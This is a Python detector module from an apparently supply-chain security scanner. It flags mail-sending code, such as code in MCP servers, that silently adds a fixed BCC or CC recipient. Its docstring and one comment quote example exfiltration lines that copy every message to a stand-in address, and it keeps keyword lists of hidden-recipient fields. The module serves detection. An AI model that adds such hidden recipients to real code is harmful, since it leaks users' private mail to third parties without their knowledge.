"""Outgoing messages get a recipient that nobody asked for.

**What.** A mail that the package sends has a fixed address among its recipients, copies or
blind copies: `bcc: "..."` in the options of a mail, a `Bcc` header, or an address that is written in the
code beside the recipients that the caller gave.

**Why.** Every mail that the assistant sends is read by somebody else, and the sender never sees
it. This is how the first malicious MCP server that became known worked.

**Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`

**Left alone.** A fixed sender; a fixed only recipient (a contact form); copies that the caller of the tool
asks for; addresses that come from the configuration.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from douane.detectors._catalogue import encoded
from douane.detectors._flow import HOLE, State, program_of
from douane.detectors._flow.shapes import elements
from douane.detectors._places import evidence_at, is_aside
from douane.model import Confidence, Severity
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from tree_sitter import Node

    from douane.detectors._flow import Index, Program
    from douane.syntax import Codebase

_HIDDEN = frozenset(
    {"bcc", "Bcc", "BCC", "bccRecipients", "bcc_addresses", "BccAddresses", "bcc_list", "bccList"}
)
_SHOWN = frozenset(
    {"cc", "Cc", "CC", "to", "To", "to_addrs", "recipients", "CcAddresses", "ToAddresses", "ccRecipients"}
)
_WORDS = encoded(
    (*_HIDDEN, "sendMail", "sendmail", "send_message", "send_mail", "sendEmail", "send_email", "addBcc")
)
_PAIRS = "(pair key: (_) @key value: (_) @value)"
_ADDRESS = re.compile(r"^[^@\s]{1,80}@[\w.-]{1,120}\.\w{2,20}>?$|<[^@\s]{1,80}@[\w.-]{1,120}>$")


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield the recipients that the code adds by itself."""
    program = program_of(codebase)
    for index in program.indexes(program.mentioning(_WORDS)):
        if is_aside(index.path):
            continue
        seen: set[int] = set()
        for name, value in _recipients(index):
            state = State(index, value)
            added = _added(program, name, state)
            if added and state.line not in seen:
                seen.add(state.line)
                kind = "a blind copy" if name in _HIDDEN else "a copy"
                yield evidence_at(
                    state,
                    why=f"every message also goes to {added}, as {kind} that nobody asked for",
                    severity=None if name in _HIDDEN else Severity.HIGH,
                )


def _recipients(index: Index) -> Iterator[tuple[str, Node]]:
    """Yield (field, value) for everything that names recipients in the file of *index*."""
    found = index.module.captures(_PAIRS)
    values = {node.parent.id: node for node in found.get("value", ()) if node.parent is not None}
    for key in found.get("key", ()):
        name = index.text(key).strip("'\"")
        value = values.get(key.parent.id) if key.parent is not None else None
        if value is not None and (name in _HIDDEN or name in _SHOWN):
            yield name, value
    for name in sorted(_HIDDEN):
        yield from ((name, write.value) for write in index.writes.get(name, ()))
    for call in index.calls:
        yield from ((name, node) for name, node in call.keywords.items() if name in _HIDDEN or name in _SHOWN)
        if call.name in ("addBcc", "add_bcc", "setBcc") and call.arguments:
            yield "bcc", call.arguments[0]
        sets = call.name in ("add_header", "setHeader", "set") and len(call.arguments) > 1
        if sets and index.text(call.arguments[0]).strip("'\"") in _HIDDEN:
            yield "bcc", call.arguments[1]
        if call.name == "sendmail" and len(call.arguments) > 1:
            yield "to_addrs", call.arguments[1]


def _added(program: Program, name: str, state: State) -> str:
    """Return the address that the code adds to the recipients at *state*; empty if it adds none."""
    listed = elements(program, state) or [state]
    texts = [program.shapes(each) for each in listed]
    fixed = [text for options in texts for text in options if HOLE not in text and _ADDRESS.search(text)]
    if name in _HIDDEN:
        return fixed[0] if fixed else ""
    open_ones = [options for options in texts if any(HOLE in text for text in options)]
    if fixed and open_ones:
        return fixed[0]
    # One text such as `${to}, copies@exfil.invalid`.
    for text in (text for options in texts for text in options if HOLE in text):
        added = [part.strip() for part in re.split(r"[,;]", text[:2000])]
        known = [part for part in added if HOLE not in part and _ADDRESS.search(part)]
        if known and len(added) > 1:
            return known[0]
    return ""


RULE = Rule(
    id="silent-copy",
    summary="outgoing messages get a recipient that nobody asked for",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    row="supply.code",
    remedy="Do not use this package; tell the people whose messages went through it.",
    taxonomy=("MCP06:2025", "MCP10:2025", "SAFE-T1910", "AML.T0086"),
    code=look,
)
